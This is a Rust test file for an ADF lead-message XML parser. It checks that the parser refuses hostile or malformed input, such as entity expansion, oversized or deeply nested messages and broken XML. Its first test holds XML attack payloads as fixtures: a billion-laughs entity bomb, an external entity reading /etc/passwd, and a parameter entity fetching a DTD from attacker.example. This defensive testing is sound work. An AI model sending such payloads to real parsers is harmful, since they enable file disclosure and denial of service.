//! Messages that are refused: attacks on XML parsers, too much of everything, and what is no ADF at all.

use frontdesk_contracts::automotive::adf::{self, AdfError, AdfSettings, MAX_DEPTH, MAX_PROSPECTS};

fn refused(message: &str) -> AdfError {
    adf::read(message.as_bytes(), &AdfSettings::default()).unwrap_err()
}

#[test]
fn entity_declarations_are_refused_before_anything_expands() {
    let laughs = "<?xml version=\"1.0\"?><!DOCTYPE adf [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">\
                  <!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]><adf><prospect><comments>&c;</comments></prospect></adf>";
    assert_eq!(refused(laughs), AdfError::EntityDeclaration);
    let external = "<!DOCTYPE adf [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><adf><prospect><comments>&x;</comments></prospect></adf>";
    assert_eq!(refused(external), AdfError::EntityDeclaration);
    let parameter =
        "<!DOCTYPE adf [ <!ENTITY % p SYSTEM \"http://attacker.example/x.dtd\"> %p; ]><adf><prospect/></adf>";
    assert_eq!(refused(parameter), AdfError::EntityDeclaration);
    assert_eq!(
        AdfError::EntityDeclaration.to_string(),
        "The message declares entities in a DTD, which is not accepted. Send it without a document type."
    );
    // A document type without declarations is only a name; nothing is fetched.
    let named = "<!DOCTYPE adf SYSTEM \"http://attacker.example/adf.dtd\"><adf><prospect><comments>&x;</comments></prospect></adf>";
    let prospects = adf::read(named.as_bytes(), &AdfSettings::default()).unwrap();
    assert_eq!(prospects[0].arguments["comments"], "&x;");
}

#[test]
fn absurd_nesting_is_refused() {
    let nested = |depth: usize| {
        let inner = format!("{}x{}", "<a>".repeat(depth), "</a>".repeat(depth));
        format!("<adf>\n<prospect>{inner}</prospect></adf>")
    };
    assert!(adf::read(nested(MAX_DEPTH - 2).as_bytes(), &AdfSettings::default()).is_ok());
    assert_eq!(refused(&nested(MAX_DEPTH - 1)), AdfError::TooDeep { line: 2 });
    assert_eq!(refused(&nested(100_000)), AdfError::TooDeep { line: 2 });
    assert_eq!(
        AdfError::TooDeep { line: 2 }.to_string(),
        "The elements at line 2 are nested more than 32 deep, which no ADF message needs. Send plain ADF."
    );
}

#[test]
fn too_much_is_refused() {
    let large = format!("<adf><prospect><comments>{}</comments></prospect></adf>", "x".repeat(1 << 20));
    assert_eq!(refused(&large), AdfError::TooLarge);
    assert_eq!(refused(&large).to_string(), "The message is larger than 1 MiB. Send fewer prospects in one message.");
    let many = |count: usize| format!("<adf>{}</adf>", "<prospect><comments>a</comments></prospect>".repeat(count));
    let read = adf::read(many(MAX_PROSPECTS).as_bytes(), &AdfSettings::default()).unwrap();
    assert_eq!(read.len(), 500);
    assert_eq!(
        refused(&many(MAX_PROSPECTS + 1)).to_string(),
        "The message has more than 500 prospects. Send them in several messages."
    );
}

#[test]
fn what_is_broken_or_something_else_is_refused() {
    for message in ["", "Hello", "<adf></adf>", "<lead><name>x</name></lead>", "<html><body>Hi</body></html>"] {
        assert_eq!(refused(message), AdfError::NotAdf, "{message}");
    }
    assert_eq!(
        refused("<adf/>").to_string(),
        "The message has no prospect. An ADF message is <adf><prospect>..</prospect></adf>."
    );
    for message in [
        "<adf>\n<prospect>",
        "<adf>\n<prospect></adf>",
        "<adf>\n</prospect>",
        "<adf>\n<prospect",
        "<adf>\n<a &#xffffff;",
    ] {
        let error = refused(message);
        assert!(matches!(error, AdfError::Malformed { line: 2 }), "{message:?} {error:?}");
    }
    assert_eq!(
        AdfError::Malformed { line: 2 }.to_string(),
        "The message is not well-formed XML at line 2. Send it again, whole and unchanged."
    );
}

#[test]
fn work_and_memory_grow_with_the_message_and_not_with_its_square() {
    // With the square they would take minutes or gigabytes.
    let small = "<a/>\n".repeat(100_000);
    let wide = format!("<adf><prospect>{small}</prospect></adf>");
    assert!(adf::read(wide.as_bytes(), &AdfSettings::default()).is_ok());
    let shared = format!("<adf>{}<d>x</d>{small}</adf>", "<prospect><c>y</c></prospect>".repeat(MAX_PROSPECTS));
    let prospects = adf::read(shared.as_bytes(), &AdfSettings::default()).unwrap();
    assert_eq!(prospects[0].unmapped, ["c", "d"]);
    assert_eq!(prospects[1].unmapped, ["c"]);
}
